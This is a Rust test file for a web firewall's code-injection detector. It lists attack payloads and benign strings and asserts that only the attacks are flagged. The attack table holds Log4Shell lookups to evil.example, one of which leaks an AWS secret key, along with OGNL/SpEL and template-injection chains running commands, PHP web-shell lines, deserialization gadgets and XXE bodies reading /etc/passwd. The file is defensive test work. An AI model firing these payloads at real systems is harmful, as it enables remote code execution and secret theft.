//! Attack and benign tables for `code_injection`, the repository's benign corpus, plus figures
//! on the shared benign dataset with their ceiling (`cargo test --release -p ironward-core
//! --lib check::code_injection::tests::measure -- --include-ignored --nocapture`).

#![allow(clippy::unwrap_used, clippy::print_stdout)]

use super::CodeInjection;
use crate::check::CheckId;
use crate::check::command::tests::run_dataset;
use crate::config::{Config, Level};
use crate::engine::Engine;
use crate::request::{Headers, Request};

fn detector() -> CodeInjection {
    CodeInjection::new(&Config::default()).unwrap()
}

const ATTACKS: &[&str] = &[
    // OGNL's member-access constant alone (it had no needle of its own).
    "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
    "(#dm=DEFAULT_MEMBER_ACCESS)",
    "DEFAULT_MEMBER_ACCESS",
    // Log4Shell.
    "${jndi:ldap://evil.example/a}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:rmi://evil.example:1099/a}",
    "${jndi:dns://evil.example/a}",
    "${jndi:iiop://evil.example/a}",
    "${jndi:nis://evil.example/a}",
    "${jndi:nds://evil.example/a}",
    "${jndi:corba://evil.example/a}",
    "${jndi:http://evil.example/a}",
    "${JNDI:LDAP://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "Mozilla/5.0 ${jndi:ldap://evil.example/ua}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:java.version}",
    "${java:os}",
    "${ctx:loginId}",
    // OGNL, SpEL, EL.
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "${facesContext.getExternalContext()}",
    "#{facesContext.externalContext.redirect('http://x')}",
    "${pageContext.request.serverName}",
    "${''.getClass().forName('java.lang.Runtime')}",
    "#{request.getClass().getClassLoader()}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "class.classLoader.URLs[0]=jar:http://x!/",
    "class['classLoader']['resources']",
    // Template injection.
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "<%= 7*7 %>",
    "@(7*7)",
    "${{7*7}}",
    "{{config}}",
    "{{ config.items() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{self._TemplateReference__context.cycler}}",
    "{{constructor.constructor('return process')()}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    "<%= system('id') %>",
    "<%= `ls` %>",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "{{ get_user_file(\"/etc/passwd\") }}",
    // PHP.
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "<?=$x?>",
    "php://input",
    "php://filter/convert.base64-encode/resource=index.php",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "expect://id",
    "phar://uploads/x.jpg/shell",
    "zip://uploads/x.zip#shell.php",
    "phpinfo()",
    ";phpinfo();//",
    "';phpinfo();//",
    "|| phpinfo()",
    ":phpversion();",
    "{${phpinfo()}}",
    "{${sleep(10)}}",
    "${@print(md5(x))}",
    ";{$_GET[\"cmd\"]}",
    "eval($_POST['x']);",
    "assert(base64_decode('cGhwaW5mbygp'))",
    "system('id');",
    "@eval($_REQUEST[1]);",
    // Python.
    "__import__('os').system('id')",
    "os.popen('id').read()",
    // Serialized objects.
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
    "aced0005737200176a6176612e7574696c2e5072696f72697479",
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "O:24:\"Illuminate\\Broadcasting\\X\":2:{s:6:\"events\";}",
    "a:1:{i:0;O:8:\"stdClass\":0:{}}",
    "a:2:{s:4:\"user\";O:4:\"User\":1:{s:5:\"admin\";b:1;}s:1:\"x\";i:1;}",
    "O:+8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    // XML entities in any value (XML bodies: `xxe.rs`).
    "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
    "gASVLAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "cos\nsystem\n(S'id'\ntR.",
    "cposix\\nsystem\\n(S'id'\\ntR.",
    "\\x80\\x04\\x95\\x1f\\x00",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u",
    "!!python/object/apply:os.system ['id']",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
    "--- !ruby/object:Gem::Installer\ni: x",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
    "System.Windows.Data.ObjectDataProvider, PresentationFramework",
];

const BENIGN: &[&str] = &[
    "$5",
    "It costs $5, or ${price} in the template",
    "${HOME}",
    "${PORT:-8080}",
    "{{",
    "}}",
    "Hello {{ name }}, your order {{ order.id }} has shipped",
    "{{#each items}}<li>{{this}}</li>{{/each}}",
    "{{ price * 2 }}",
    "{{> header}}",
    "7*7=49",
    "I love php",
    "PHP 8.3 is out; upgrade your php.ini",
    "O:8 in text",
    "a:2 then",
    "The ratio is 3:2:{approx}",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PyHJ1Wl6Gg3w",
    "rO0 is a word",
    "rO0ABX",
    "avoid eval() in JavaScript",
    "The system(s) we use",
    "exec(sql) runs the query",
    "assert(x == 1)",
    "Please check the system status",
    "My class loader article",
    "#{id} in Ruby strings",
    "Use #set to define variables",
    "https://example.com/?a=1&b=2",
    "C:\\Users\\me\\Documents",
    "O'Brien",
    "email me at john@example.com",
    "<p>Hello <b>world</b></p>",
    "{\"a\": {\"b\": [1, 2]}}",
    "SELECT * FROM t WHERE a = 1",
    "(555) 123-4567",
    "2021-05-01",
    "print('hello')",
    "Ruby: \"#{first} #{last}\"",
    "@(user) mentioned you",
    "50% off <%",
    "file://server/share",
    "the __init__ method",
    // PHP serialized arrays and scalars construct nothing.
    "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
    "a:2:{i:0;i:1794719;i:1;i:1794721;}",
    "a:1:{i:0;i:1794721;}",
    "a:2:{s:4:\"view\";s:4:\"grid\";s:5:\"items\";i:24;}",
    "i:5;",
    "s:5:\"hello\";",
    // Doctypes without entities; prose about them.
    "<!DOCTYPE html>",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
    "use <!ENTITY to declare an entity",
    // Template-like shapes in random tokens with punctuation: bodies that do not parse.
    "2;0;3687984;4277301;4,27;g7dE&vsiVL0t*{w7z~3N$4MXB=VI3*3P?7=?P=`wR4!O}Id&A",
    "x@(;qr}l}4ASo4dGW.3e^b5!C2dxe`J r5y~2-RmqL`:t^t)y",
    "#{@hHhKpF[-,?~]p|T`v`8AQzG(S;j?m@DX?#/M+WI!}",
];

/// Long random tokens with punctuation (sensor data, session blobs), seeded: none forms a
/// template expression, an object or a wrapper.
#[test]
fn random_tokens_pass() {
    let d = detector();
    for seed in [7, 8, 9, 10] {
        let mut r = crate::check::lookalikes::Rng::new(seed);
        let alphabet = b" !#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_`abcdefghijklmnopqrstuvwxyz{|}~";
        let fired: Vec<_> = (0..1_500)
            .map(|_| {
                let n = 200 + r.below(4_000);
                r.token(alphabet, n)
            })
            .filter_map(|t| {
                d.detect(&t)
                    .map(|rule| (rule, d.rules.template_match(&t), t))
            })
            .collect();
        assert!(fired.is_empty(), "{:?}", fired.first());
    }
}

#[test]
fn xxe_in_xml_bodies_is_found() {
    let mut c = Config::default();
    for id in CheckId::configurable() {
        c.security_checks.set(id, Level::Off);
    }
    c.security_checks.set(CheckId::CodeInjection, Level::Block);
    let engine = Engine::new(c).unwrap();
    let run = |ct: &'static str, body: &'static str| {
        let mut headers = Headers::new();
        headers.push("content-type", ct.as_bytes());
        let v = engine.inspect_request(&Request {
            method: "POST",
            path: "/soap",
            headers,
            body: body.as_bytes(),
            ..Request::default()
        });
        v.findings.first().map(|f| (f.location, f.engine))
    };
    for body in [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>",
    ] {
        assert_eq!(
            run("application/xml", body),
            Some(("body", Some("xxe"))),
            "{body}"
        );
    }
    assert_eq!(run("application/xml", "<!DOCTYPE r><r>1</r>"), None);
    assert_eq!(run("text/xml", "<r><a>1</a></r>"), None);
}

#[test]
fn attacks_fire() {
    let d = detector();
    let missed: Vec<_> = ATTACKS.iter().filter(|a| d.detect(a).is_none()).collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
}

#[test]
fn benign_passes() {
    let d = detector();
    let fired: Vec<_> = BENIGN
        .iter()
        .filter_map(|b| d.detect(b).map(|r| (b, r)))
        .collect();
    assert!(fired.is_empty(), "fired: {fired:#?}");
}

#[test]
fn log4shell_in_a_header_is_found() {
    let mut c = Config::default();
    for id in CheckId::configurable() {
        c.security_checks.set(id, Level::Off);
    }
    c.security_checks.set(CheckId::CodeInjection, Level::Block);
    let engine = Engine::new(c).unwrap();
    let mut headers = Headers::new();
    headers.push("x-api-version", b"${${::-j}ndi:ldap://x/a}");
    let v = engine.inspect_request(&Request {
        method: "GET",
        path: "/",
        headers,
        ..Request::default()
    });
    assert_eq!(v.findings.len(), 1);
    assert_eq!(v.findings[0].location, "headers_values");
    assert_eq!(v.findings[0].engine, Some("jndi"));
}

#[test]
fn hostile_shapes_are_bounded() {
    let d = detector();
    for v in [
        "${".repeat(20_000),
        "{{".repeat(20_000),
        "${a:-".repeat(5_000) + &"}".repeat(5_000),
        "%{(#".repeat(5_000),
    ] {
        let _ = d.detect(&v);
    }
}

/// Figures on every row of the shared benign dataset, through an engine with only
/// `code_injection` on, asserted (measured 0 / 139,967). Ignored (about 7 s in a debug build):
/// `tests/detection.rs` asserts the same data in every run.
#[test]
#[ignore = "measurement on every row of the shared benign dataset; tests/detection.rs covers it in every run"]
fn measure() {
    let d = detector();
    let hits = ATTACKS.iter().filter(|a| d.detect(a).is_some()).count();
    println!("code_injection: table attacks {hits}/{}", ATTACKS.len());
    let fps = BENIGN.iter().filter(|b| d.detect(b).is_some()).count();
    println!(
        "code_injection: table benign flagged {fps}/{}",
        BENIGN.len()
    );
    let (h, t) = run_dataset("benign.jsonl", &[CheckId::CodeInjection], Some(true));
    println!("code_injection: benign.jsonl flagged {h}/{t}");
    assert_eq!((hits, fps), (ATTACKS.len(), 0), "the tables");
    assert!(h <= 1, "benign.jsonl flagged {h}/{t}");
}

/// The detector flags no value of the repository's benign corpus.
#[test]
fn corpus_is_clean() {
    let d = detector();
    let (h, t) = crate::check::command::tests::run_corpus(&|v| d.detect(v).is_some());
    println!("code_injection: corpus/benign flagged {h}/{t}");
    assert_eq!(h, 0, "code_injection: corpus/benign flagged {h}/{t}");
}
